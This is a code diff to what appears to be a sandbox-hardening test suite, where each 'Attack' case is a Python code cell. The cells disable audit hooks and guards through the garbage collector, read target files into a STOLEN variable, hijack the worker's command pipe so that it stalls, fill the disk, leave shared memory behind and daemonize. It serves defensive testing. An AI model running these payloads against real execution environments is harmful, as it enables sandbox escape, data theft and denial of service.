@@ -187,19 +187,20 @@ def _disk_reads(ctx: Context) -> dict:
         "    return b''\n"
         "STOLEN = _steal()\n")
     hook_off = targets + _LOAD_MODULE + (
-        "gc = _module('gc')\n"
-        "for obj in gc.get_objects():\n"
-        "    kind = type(obj).__name__.lower()\n"
-        "    if callable(obj) and hasattr(obj, '__dict__') and any(w in kind for w in "
+        "def _switch_off():\n"
+        "    for obj in _module('gc').get_objects():\n"
+        "        kind = type(obj).__name__.lower()\n"
+        "        if callable(obj) and hasattr(obj, '__dict__') and any(w in kind for w in "
         "('block', 'hook', 'audit', 'guard', 'fence')):\n"
-        "        for key, value in list(obj.__dict__.items()):\n"
-        "            if isinstance(value, str):\n"
-        "                obj.__dict__[key] = '/nowhere-at-all/'\n"
-        "            elif isinstance(value, (tuple, list, set, frozenset)):\n"
-        "                obj.__dict__[key] = ('/',)\n"
-        "            elif isinstance(value, bool):\n"
-        "                obj.__dict__[key] = True\n"
+        "            for key, value in list(obj.__dict__.items()):\n"
+        "                if isinstance(value, str):\n"
+        "                    obj.__dict__[key] = '/nowhere-at-all/'\n"
+        "                elif isinstance(value, (tuple, list, set, frozenset)):\n"
+        "                    obj.__dict__[key] = ('/',)\n"
+        "                elif isinstance(value, bool):\n"
+        "                    obj.__dict__[key] = True\n"
         "def _steal():\n"
+        "    _switch_off()\n"
         "    for path in TARGETS:\n"
         "        try:\n"
         "            with open(path, 'rb') as handle:\n"
@@ -362,22 +363,25 @@ def _leaks(ctx: Context) -> dict:
 def _stalls(ctx: Context) -> dict:
     stop_reading = (
         "import os\n"
-        "_KEEP = []\n"
-        "for _fd in range(3, 256):\n"
-        "    try:\n"
-        "        _kind = os.readlink('/proc/self/fd/%d' % _fd)\n"
-        "        with open('/proc/self/fdinfo/%d' % _fd) as _info:\n"
-        "            _flags = int(_info.read().split('flags:')[1].split()[0], 8)\n"
-        "    except (OSError, IndexError, ValueError):\n"
-        "        continue\n"
-        "    if _kind.startswith('pipe:') and _flags & 3 == 0:  # a read end: the worker's commands\n"
-        "        _r, _w = os.pipe()\n"
-        "        _KEEP += [os.dup(_fd), _w]  # the real pipe stays open, nobody reads it again\n"
-        "        os.dup2(_r, _fd)\n"
+        "def _stop_reading():\n"
+        "    keep = []\n"
+        "    for fd in range(0, 256):\n"
+        "        try:\n"
+        "            kind = os.readlink('/proc/self/fd/%d' % fd)\n"
+        "            with open('/proc/self/fdinfo/%d' % fd) as info:\n"
+        "                flags = int(info.read().split('flags:')[1].split()[0], 8)\n"
+        "        except (OSError, IndexError, ValueError):\n"
+        "            continue\n"
+        "        if kind.startswith('pipe:') and flags & 3 == 0:  # a read end: the worker's commands\n"
+        "            r, w = os.pipe()\n"
+        "            keep += [os.dup(fd), w]  # the real pipe stays open, nobody reads it again\n"
+        "            os.dup2(r, fd)\n"
+        "    return keep\n"
+        "_KEEP = _stop_reading()\n"
         "def double_it(x):\n"
-        "    return 2 * x\n")
+        "    return 2 * x + 0 * len(_KEEP)\n")
     # the next command (this cell) is far larger than a pipe's buffer
-    big_next = "def add_them(a, b):\n    return a + b\n" + ("# padding to fill the command pipe\n" * 9000)
+    big_next = f"PAD = {'p' * 180_000!r}\ndef add_them(a, b):\n    return a + b + 0 * len(PAD)\n"
     fill_disk = (
         "import os, tempfile\n"
         "def _fill(limit=768 << 20):\n"
@@ -547,9 +551,10 @@ def _neighbours(ctx: Context) -> dict:
         "        if address not in (None, ctypes.c_void_p(-1).value):\n"
         "            ctypes.memmove(address, b'return 2 * x', 12)\n"
         "            _libc.shmdt(ctypes.c_void_p(address))\n"
-        "_leave()\n"
+        "    return [segment]\n"
+        "_LEFT = _leave()\n"
         "def double_it(x):\n"
-        "    return 2 * x\n")
+        "    return 2 * x + 0 * len(_LEFT)\n")
     find = _libc_read() + (
         "_libc.shmat.restype = ctypes.c_void_p\n"
         "def _find():\n"
@@ -604,9 +609,9 @@ def _neighbours(ctx: Context) -> dict:
         "    args = (ctypes.c_char_p * (len(_argv) + 1))(*[os.fsencode(a) for a in _argv], None)\n"
         "    _libc.execv(os.fsencode(sys.executable), args)\n"
         "    _libc._exit(0)\n"
-        "_daemonize()\n"
+        "_DAEMON = [_daemonize()]\n"
         "def double_it(x):\n"
-        "    return 2 * x\n")
+        "    return 2 * x + 0 * len(_DAEMON)\n")
     return {
         "a1_leaves_files_and_shm": Attack(kit.good_cells({"double_it": leave}), {},
                                           doc="writes /dev/shm, /tmp, home and a System V segment"),
